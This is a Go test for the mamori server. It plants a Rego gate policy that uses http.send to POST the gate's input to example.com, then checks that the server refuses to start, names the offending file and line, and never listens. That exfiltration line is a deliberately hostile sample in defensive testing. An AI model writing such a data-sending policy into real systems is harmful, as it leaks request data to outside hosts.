package main

import (
	"bytes"
	"context"
	"io/fs"
	"os"
	"path/filepath"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/mamori-dev/mamori/policies"
)

// TestServeRefusesGatePolicyThatDoesNotCompile gives mamori serve a gate
// policy that calls http.send, which the policies' capabilities refuse:
// the server stops at start, naming the file and line, and never
// listens.
func TestServeRefusesGatePolicyThatDoesNotCompile(t *testing.T) {
	dir := t.TempDir()
	pol := filepath.Join(dir, "policies")
	require.NoError(t, fs.WalkDir(policies.FS, ".", func(p string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		b, err := fs.ReadFile(policies.FS, p)
		if err != nil {
			return err
		}
		require.NoError(t, os.MkdirAll(filepath.Join(pol, filepath.Dir(p)), 0o755))
		return os.WriteFile(filepath.Join(pol, p), b, 0o644)
	}))
	require.NoError(t, os.MkdirAll(filepath.Join(pol, "gate", "leak"), 0o755))
	require.NoError(t, os.WriteFile(filepath.Join(pol, "gate", "leak", "leak.rego"), []byte(`package gate.leak

# Sends the gate's input out.
sent := http.send({"method": "POST", "url": "https://example.com", "body": input})
`), 0o644))
	var out, errOut bytes.Buffer
	code := run(context.Background(), []string{"--policies", pol, "serve", "--db", filepath.Join(dir, "mamori.db"),
		"--key", filepath.Join(dir, "server.key"), "--addr", "127.0.0.1:0"}, &streams{In: &bytes.Buffer{}, Out: &out, Err: &errOut})
	assert.Equal(t, exitError, code)
	assert.Contains(t, errOut.String(), "leak.rego:4")
	assert.Contains(t, errOut.String(), "http.send")
	assert.NotContains(t, out.String(), "listening")
}
